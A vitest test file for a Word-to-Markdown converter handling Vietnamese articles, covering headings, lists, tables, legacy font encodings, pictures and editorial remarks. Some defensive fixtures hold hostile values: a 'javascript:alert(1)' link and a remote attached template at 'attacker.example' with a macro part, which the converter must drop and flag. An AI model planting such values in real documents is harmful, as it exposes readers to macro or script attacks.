import { expect, describe, test } from 'vitest';
import { readContent } from '../../content/read.ts';
import { filesOfCase } from '../../tests/cases.ts';
import { bodyOfArticle, type WordArticle } from './read-word.ts';
import {
  articleInSample,
  dot,
  item,
  normalStyle,
  paragraph,
  picture,
  pictureRelation,
  run,
  table,
  type Sample,
} from './sample.ts';

const { index } = readContent(filesOfCase('good'));

const articleOf = (sample: Sample | string): Promise<WordArticle> => articleInSample(sample, index);
const textOf = async (sample: Sample | string): Promise<string> => bodyOfArticle(await articleOf(sample), '');
const codesOf = async (sample: Sample | string): Promise<string[]> =>
  (await articleOf(sample)).remarks.map(({ code }) => code);

describe('a text keeps what it is made of', () => {
  const samples: Record<string, readonly [Sample | string, string]> = {
    'headings below the title, whatever level they begin at': [
      paragraph('Tên bài', 'Title') + paragraph('Một', 'Heading1') + paragraph('Hai', 'Heading2'),
      'Tên bài\n\n## Một\n\n### Hai\n',
    ],
    'headings that begin at the third level': [
      paragraph('Lời dẫn.') + paragraph('Một', 'Heading3'),
      'Lời dẫn.\n\n## Một\n',
    ],
    'bold and italic words, without the spaces at their edges': [
      paragraph(run('Trao ') + run('60 suất ', '<w:b/>') + run('học bổng ') + run(' nay', '<w:i/>')),
      'Trao **60 suất** học bổng _nay_\n',
    ],
    'words that Word has cut into runs': [
      paragraph(
        run('Qu', '<w:b/>') + run('ảng', '<w:b/>') + '<w:proofErr w:type="spellStart"/>' + run(' Trị'),
      ),
      '**Quảng** Trị\n',
    ],
    'a word that is half bold, which nobody meant': [
      paragraph(run('Đo', '<w:b/>') + run('àn thăm')),
      'Đoàn thăm\n',
    ],
    'lists of both kinds, one within another': [
      item('một', 1) + item('sâu', 1, 1) + item('hai', 1) + item('nhất', 2) + item('nhì', 2),
      '- một\n  - sâu\n- hai\n\n1. nhất\n2. nhì\n',
    ],
    'lists that were typed with dashes': [
      paragraph('– một') + paragraph('- hai') + paragraph('Hết.'),
      '- một\n- hai\n\nHết.\n',
    ],
    'a single typed dash, which is none': [paragraph('Gồm có:') + paragraph('- một'), 'Gồm có:\n\n– một\n'],
    'tables, with the first row as their head': [
      table([
        ['Năm', 'Suất'],
        ['2023', '60'],
      ]),
      '| Năm | Suất |\n| - | - |\n| 2023 | 60 |\n',
    ],
    'a frame of one cell as the text in it': [table([['Chỉ là khung']]), 'Chỉ là khung\n'],
    quotations: [paragraph('Tình hữu nghị.', 'Quote'), '> Tình hữu nghị.\n'],
    'hard spaces, soft hyphens and letters taken apart as plain letters': [
      paragraph('Hô\u0300 Chi\u0301\u00A0Minh, hữu\u00AD nghị\u200B,\u2003hòa bình'),
      'Hồ Chí Minh, hữu nghị, hòa bình\n',
    ],
    'quotation marks as Word sets them': [
      paragraph('“Hữu nghị” và ‘hòa bình’'),
      '“Hữu nghị” và ‘hòa bình’\n',
    ],
    'signs that would be markup in a record': [
      paragraph('a < b {c} *d* _e_ [f] #g'),
      'a \\< b \\{c\\} \\*d\\* \\_e\\_ \\[f] #g\n',
    ],
    'a line break within a paragraph': [
      paragraph('<w:r><w:t>Một</w:t><w:br/><w:t>hai</w:t></w:r>'),
      'Một\\\nhai\n',
    ],
    'text of an insertion, not that of a deletion': [
      paragraph(
        run('Trao ') +
          `<w:ins w:id="1" w:author="A">${run('sáu mươi ')}</w:ins>` +
          '<w:del w:id="2" w:author="A"><w:r><w:delText>bảy mươi </w:delText></w:r></w:del>' +
          run('suất'),
      ),
      'Trao sáu mươi suất\n',
    ],
    'text in a box, once': [
      paragraph(
        run('Ngoài.') +
          `<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>${paragraph('Trong khung.')}</w:txbxContent></wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent>${paragraph('Trong khung.')}</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>`,
      ),
      'Ngoài.\n\nTrong khung.\n',
    ],
  };
  test.each(Object.entries(samples))('%s', async (_, [sample, expected]) => {
    expect(await textOf(sample)).toBe(expected);
  });
});

describe('links', () => {
  const link = (target: string): Sample => ({
    body: paragraph(`<w:hyperlink r:id="rLink">${run('xem ở đây')}</w:hyperlink>`),
    relations: `<Relationship Id="rLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${target}" TargetMode="External"/>`,
  });

  test.each(['https://vufo.example/bai', 'mailto:a@b.example'])('to %s stay', async (target) => {
    expect(await textOf(link(target))).toBe(`[xem ở đây](${target})\n`);
    expect(await codesOf(link(target))).not.toContain('linkDropped');
  });

  test.each(['file:///C:/bai.docx', 'javascript:alert(1)', '\\\\may\\chung\\bai.docx'])(
    'to %s become words, and that is told',
    async (target) => {
      expect(await textOf(link(target))).toBe('xem ở đây\n');
      expect(await codesOf(link(target))).toContain('linkDropped');
    },
  );
});

describe('letters of old fonts become Unicode', () => {
  const font = (name: string): string => `<w:rFonts w:ascii="${name}" w:hAnsi="${name}"/>`;

  test.each([
    ['.VnTime', 'Liªn hiÖp c¸c tæ chøc h÷u nghÞ', 'Liên hiệp các tổ chức hữu nghị'],
    ['.VnTimeH', 'liªn hiÖp §«ng ®¶o', 'LIÊN HIỆP ĐÔNG ĐẢO'],
    ['VNI-Times', 'Lieân hieäp caùc toå chöùc höõu nghò', 'Liên hiệp các tổ chức hữu nghị'],
    ['VNI-Times', 'COÄNG HOØA XAÕ HOÄI CHUÛ NGHÓA VIEÄT NAM', 'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM'],
  ])('%s: %s', async (name, typed, meant) => {
    const body = paragraph(run(typed, font(name)));
    expect(await textOf(body)).toBe(`${meant}\n`);
    expect(await codesOf(body)).toContain('oldFont');
  });

  test('by the font of their style, and in footnotes', async () => {
    const sample: Sample = {
      styles: normalStyle('.VnTime'),
      body: paragraph(run('h÷u nghÞ') + '<w:r><w:footnoteReference w:id="2"/></w:r>'),
      footnotes: `<w:footnote w:id="2">${paragraph(run('c¸c tæ chøc'))}</w:footnote>`,
    };
    expect(await textOf(sample)).toBe('hữu nghị\\[1]\n\n\\[1] các tổ chức\n');
  });

  test('where Word has cut a letter of VNI from its mark', async () => {
    const body = paragraph(
      run('Quaûng Tr', font('VNI-Times')) +
        run('ò, to', font('VNI-Times')) +
        run('å', font('VNI-Times')) +
        run(' chöùc', font('VNI-Times')),
    );
    expect(await textOf(body)).toBe('Quảng Trị, tổ chức\n');
  });

  test('but not in a font of today, where they are only told of', async () => {
    const body = paragraph('Liªn hiÖp c¸c tæ chøc h÷u nghÞ');
    expect(await textOf(body)).toBe('Liªn hiÖp c¸c tæ chøc h÷u nghÞ\n');
    const { remarks } = await articleOf(body);
    expect(remarks).toContainEqual({
      code: 'oldFontUnsure',
      values: { paragraph: 1, encoding: 'TCVN3', text: 'Liên hiệp các tổ chức hữu nghị' },
    });
  });
});

describe('pictures', () => {
  const relations = pictureRelation('rPic', 'media/image1.png');
  const parts = { 'word/media/image1.png': dot };

  test.each([
    ['in the style of captions', paragraph('Ảnh 1. Lễ trao quà', 'Caption'), 'caption="Lễ trao quà"'],
    ['begun with “Ảnh:”', paragraph('Ảnh: Liên hiệp'), 'credit="Liên hiệp"'],
    [
      'with both',
      paragraph('Lễ trao “quà” (Ảnh: Liên hiệp)', 'Caption'),
      'caption="Lễ trao “quà”" credit="Liên hiệp"',
    ],
    ['in italics', paragraph(run('Học sinh nhận quà', '<w:i/>')), 'caption="Học sinh nhận quà"'],
  ])('take the caption below them, %s', async (_, caption, attributes) => {
    const body =
      paragraph(picture('rPic', 'Học sinh')) + caption + paragraph('Đoạn sau, không phải chú thích.');
    expect(await textOf({ body, relations, parts })).toBe(
      `<Figure src="./anh-1.jpg" alt="Học sinh" ${attributes} />\n\nĐoạn sau, không phải chú thích.\n`,
    );
  });

  test('within a sentence stand behind its paragraph', async () => {
    const body = paragraph(run('Trước ') + picture('rPic', 'Ảnh') + run('sau'));
    expect(await textOf({ body, relations, parts })).toBe(
      'Trước sau\n\n<Figure src="./anh-1.jpg" alt="Ảnh" />\n',
    );
  });

  test('without a description are told of', async () => {
    const { remarks, photos } = await articleOf({ body: paragraph(picture('rPic')), relations, parts });
    expect(remarks).toContainEqual({ code: 'pictureWithoutAlt', values: { count: 1 } });
    expect(photos).toEqual([{ name: 'anh-1.jpg', contentType: 'image/png', bytes: dot }]);
  });

  test('of a kind that no browser shows are left out and told of', async () => {
    const sample = {
      body: paragraph(picture('rPic', 'Biểu đồ')),
      relations: pictureRelation('rPic', 'media/image1.emf'),
      parts: { 'word/media/image1.emf': dot },
    };
    const { remarks, photos, parts: blocks } = await articleOf(sample);
    expect(remarks).toContainEqual({ code: 'pictureKind', values: { kind: 'image/x-emf' } });
    expect([photos, blocks]).toEqual([[], []]);
  });
});

describe('what is not text is told of', () => {
  const commented: Sample = {
    body: paragraph(
      '<w:commentRangeStart w:id="0"/>' + run('Sáu mươi suất') + '<w:commentRangeEnd w:id="0"/>',
    ),
    comments: `<w:comment w:id="0" w:author="Biên tập">${paragraph('Kiểm tra lại số này')}</w:comment>`,
  };
  test('comments, with who wrote them', async () => {
    const { remarks } = await articleOf(commented);
    expect(remarks).toContainEqual({
      code: 'comment',
      values: { author: 'Biên tập', text: 'Kiểm tra lại số này' },
    });
  });

  test.each([
    ['insertions', paragraph(`<w:ins w:id="1">${run('thêm')}</w:ins>`)],
    ['deletions', paragraph(run('còn') + '<w:del w:id="1"><w:r><w:delText>bỏ</w:delText></w:r></w:del>')],
    ['equations', paragraph(run('Ta có ') + '<m:oMath><m:r><m:t>x</m:t></m:r></m:oMath>')],
    ['objects', paragraph(run('Xem ') + '<w:r><w:object><o:OLEObject/></w:object></w:r>')],
    ['boldHeadings', paragraph('Mở đầu.') + paragraph(run('Ý nghĩa', '<w:b/>')) + paragraph('Thân bài.')],
    ['mergedCells', table([['<w:tcPr><w:gridSpan w:val="2"/></w:tcPr>' + paragraph('Cả hai')], ['a', 'b']])],
    ['titleInCapitals', paragraph('TRAO QUÀ CHO TRẺ EM', 'Title')],
  ])('%s', async (code, body) => {
    expect(await codesOf(body)).toContain(code);
    expect(await codesOf(paragraph('Không có gì lạ.'))).not.toContain(code);
  });

  test('macros and links to the outside, of which nothing is left', async () => {
    const sample: Sample = {
      body: paragraph('Bài.'),
      relations:
        '<Relationship Id="rT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/x.dotm" TargetMode="External"/>',
      parts: { 'word/vbaProject.bin': dot },
    };
    expect(await codesOf(sample)).toEqual(expect.arrayContaining(['macros', 'outside']));
    expect(await textOf(sample)).toBe('Bài.\n');
  });
});

test('a note is not proposed as the summary', async () => {
  const { proposals } = await articleOf({
    body:
      paragraph('Tên bài', 'Title') + paragraph(run('Ngắn.') + '<w:r><w:footnoteReference w:id="2"/></w:r>'),
    footnotes: `<w:footnote w:id="2">${paragraph('Một chú thích dài hơn bốn mươi chữ cái, không phải lời mở đầu.')}</w:footnote>`,
  });
  expect(proposals.map(({ flag }) => flag)).toContain('title');
  expect(proposals.map(({ flag }) => flag)).not.toContain('summary');
});
